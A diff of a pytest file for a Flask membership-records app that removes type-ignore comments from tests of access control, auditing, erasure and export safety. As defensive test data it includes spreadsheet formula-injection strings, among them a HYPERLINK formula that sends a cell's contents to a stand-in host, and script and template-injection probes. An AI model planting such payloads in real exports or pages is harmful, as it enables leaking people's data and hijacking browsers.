@@ -89,7 +89,7 @@ def csv_rows(content: bytes) -> list[list[str]]:
 @pytest.mark.parametrize("role", ["lead", "officer"])
 def test_staff_pages_never_show_equality_answers(
     client: FlaskClient, login, cast, role: str
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     member = make_member()
     login(cast[role])
     pages = [
@@ -110,14 +110,14 @@ def test_staff_pages_never_show_equality_answers(
         assert "ethnicity" not in header
 
 
-def test_lead_cannot_export_members(client: FlaskClient, login, cast) -> None:  # type: ignore[no-untyped-def]
+def test_lead_cannot_export_members(client: FlaskClient, login, cast) -> None:
     login(cast["lead"])
     assert client.get("/members/export.csv").status_code == 403
 
 
 def test_officer_asking_for_equality_columns_gets_403(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     make_member()
     login(cast["officer"])
     assert client.get("/members/export.csv?equality=1").status_code == 403
@@ -127,7 +127,7 @@ def test_officer_asking_for_equality_columns_gets_403(
 
 def test_admin_export_with_equality_includes_them_and_is_audited(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     make_member()
     login(cast["admin"])
     response = client.get("/members/export.csv?equality=1")
@@ -142,7 +142,7 @@ def test_admin_export_with_equality_includes_them_and_is_audited(
 
 def test_equality_report_suppresses_small_counts_and_is_audited(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     for index in range(8):
         make_member(f"Member {index}", f"m{index}@example.org", equality=index < 2)
     login(cast["admin"])
@@ -159,12 +159,12 @@ def test_equality_report_suppresses_small_counts_and_is_audited(
 @pytest.mark.parametrize("role", ["lead", "officer"])
 def test_only_admins_see_the_equality_report(
     client: FlaskClient, login, cast, role: str
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     login(cast[role])
     assert client.get("/members/equality").status_code == 403
 
 
-def test_admin_enters_the_population_profile(client: FlaskClient, login, cast) -> None:  # type: ignore[no-untyped-def]
+def test_admin_enters_the_population_profile(client: FlaskClient, login, cast) -> None:
     login(cast["admin"])
     assert client.get("/members/equality/population").status_code == 200
     response = client.post(
@@ -198,7 +198,7 @@ def test_downloads_without_a_session_go_to_login(client: FlaskClient, url: str) 
 @pytest.mark.parametrize("role", ["lead", "officer"])
 def test_subject_access_is_for_admins_only(
     client: FlaskClient, login, cast, role: str
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     member = make_member()
     login(cast[role])
     assert client.get(f"/members/{member.id}/subject-access.json").status_code == 403
@@ -206,7 +206,7 @@ def test_subject_access_is_for_admins_only(
 
 def test_subject_access_download_is_private_json(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     x = make_member("Xena Example", "xena@example.org")
     make_member("Yann Other", "yann@example.org")
     login(cast["admin"])
@@ -225,7 +225,7 @@ def test_subject_access_download_is_private_json(
 
 def test_export_headers_are_private_with_a_dated_filename(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     login(cast["officer"])
     response = client.get("/members/export.xlsx")
     assert response.headers["Cache-Control"] == "no-store"
@@ -239,7 +239,7 @@ def test_export_headers_are_private_with_a_dated_filename(
 FORMULAS = ['=HYPERLINK("http://x/?"&A1,"x")', "+SUM(1,1)", "-2+3", "@cmd"]
 
 
-def test_exports_neutralise_formulas(client: FlaskClient, login, cast) -> None:  # type: ignore[no-untyped-def]
+def test_exports_neutralise_formulas(client: FlaskClient, login, cast) -> None:
     for index, name in enumerate(FORMULAS):
         make_member(name, f"f{index}@example.org", phone="+447700900123")
     left = make_member("Withdrawn Person", "gone@example.org")
@@ -265,7 +265,7 @@ def test_exports_neutralise_formulas(client: FlaskClient, login, cast) -> None: 
 
 def test_member_data_is_escaped_on_list_and_record(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     member = make_member("<script>alert(1)</script>", notes="{{7*7}}")
     login(cast["lead"])
     for url in ("/members/", f"/members/{member.id}"):
@@ -279,7 +279,7 @@ def test_member_data_is_escaped_on_list_and_record(
 # The record, adding and editing -------------------------------------------------------
 
 
-def test_viewing_a_record_is_audited(client: FlaskClient, login, cast) -> None:  # type: ignore[no-untyped-def]
+def test_viewing_a_record_is_audited(client: FlaskClient, login, cast) -> None:
     member = make_member()
     login(cast["lead"])
     assert client.get(f"/members/{member.id}").status_code == 200
@@ -301,7 +301,7 @@ FORM = {
 
 def test_officer_adds_a_member_who_joined_by_phone(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     login(cast["officer"])
     response = client.post("/members/new", data=FORM)
     assert response.status_code == 302
@@ -319,7 +319,7 @@ def test_officer_adds_a_member_who_joined_by_phone(
 
 def test_adding_a_known_email_shows_a_field_error(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     make_member("Someone Else", "ruth@example.org")
     login(cast["officer"])
     response = client.post("/members/new", data=FORM)
@@ -332,7 +332,7 @@ def test_adding_a_known_email_shows_a_field_error(
 
 def test_adding_without_contact_details_shows_a_field_error(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     login(cast["officer"])
     data = {**FORM, "email": "", "phone": "", "consents": []}
     response = client.post("/members/new", data=data)
@@ -344,7 +344,7 @@ def test_adding_without_contact_details_shows_a_field_error(
 
 def test_edit_ignores_fields_that_are_not_on_the_form(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     practice = Practice(name="Castle Street Surgery")
     topic = Topic(name="Cancer")
     db.session.add_all([practice, topic])
@@ -378,7 +378,7 @@ def test_edit_ignores_fields_that_are_not_on_the_form(
     assert member.consents == []
 
 
-def test_officer_withdraws_a_member(client: FlaskClient, login, cast) -> None:  # type: ignore[no-untyped-def]
+def test_officer_withdraws_a_member(client: FlaskClient, login, cast) -> None:
     member = make_member()
     login(cast["officer"])
     response = client.post(f"/members/{member.id}/withdraw")
@@ -389,7 +389,7 @@ def test_officer_withdraws_a_member(client: FlaskClient, login, cast) -> None:  
     assert "Pat Member" in listed
 
 
-def test_admin_erases_a_member(client: FlaskClient, login, cast) -> None:  # type: ignore[no-untyped-def]
+def test_admin_erases_a_member(client: FlaskClient, login, cast) -> None:
     member = make_member(phone="07700900123")
     login(cast["admin"])
     page = client.get(f"/members/{member.id}/erase").get_data(as_text=True)
@@ -414,7 +414,7 @@ def test_admin_erases_a_member(client: FlaskClient, login, cast) -> None:  # typ
     assert event.summary == "reason: member_request"
 
 
-def test_list_filters_and_paginates(client: FlaskClient, login, cast) -> None:  # type: ignore[no-untyped-def]
+def test_list_filters_and_paginates(client: FlaskClient, login, cast) -> None:
     for index in range(51):
         make_member(f"Member {index:02}", f"m{index}@example.org", equality=False)
     make_member("Golden Champion", "gold@example.org", tier=Tier.GOLD, is_champion=True)
@@ -435,7 +435,7 @@ def test_list_filters_and_paginates(client: FlaskClient, login, cast) -> None:  
 
 def test_admin_adds_and_retires_practices_and_topics(
     client: FlaskClient, login, cast
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     login(cast["admin"])
     client.post("/members/practices", data={"new-name": "Old Mill Practice"})
     practice = db.session.scalar(select(Practice))
